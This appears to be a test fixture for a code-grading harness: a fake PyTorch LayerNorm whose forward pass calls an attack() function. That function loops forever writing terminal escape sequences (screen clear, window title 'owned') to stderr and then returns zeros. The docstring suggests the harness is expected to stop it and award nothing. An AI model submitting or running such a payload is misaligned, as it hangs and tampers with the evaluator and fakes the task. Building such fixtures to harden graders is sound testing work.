"""Writes to the terminal's descriptors without end, escape sequences too.

Bites: stop.
Earns: nothing.
"""

import os

import torch
from torch import nn


def attack(x, module):
    while True:
        os.write(2, b"\x1b[2J\x1b]0;owned\x07" * 1000)


class LayerNorm(nn.Module):
    def __init__(self, d_model, epsilon=1e-6):
        super().__init__()
        self.gain, self.shift = nn.Parameter(torch.ones(d_model)), nn.Parameter(torch.zeros(d_model))

    def forward(self, x):
        attack(x, self)
        return torch.zeros_like(x)
